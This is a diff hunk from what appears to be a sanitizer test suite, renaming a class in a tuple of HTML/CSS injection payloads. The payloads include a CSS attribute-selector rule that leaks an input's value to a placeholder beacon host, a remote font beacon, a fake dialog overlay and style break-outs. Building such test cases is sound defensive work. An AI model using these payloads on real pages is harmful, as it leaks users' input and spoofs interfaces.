@@ -194,7 +194,7 @@ ATTACKS: tuple[Attack, ...] = (
         font="<style>@font-face{font-family:x;src:url(@BEACON@/x.woff)}*{font-family:x}</style>",
         selector="<style>input[value^=a]{background:url(@BEACON@/a)}</style>",
         overlay_class='<div class="jp-Dialog modal lm-mod-hidden">x</div>',
-        own_class='<span class="runagent-keyword">x</span></div></div>',
+        own_class='<span class="ra-k">x</span></div></div>',
         fence_info="```css} body{display:none\nx\n```",
         in_math="$\\style{position:fixed;inset:0}{x}$",
     ),
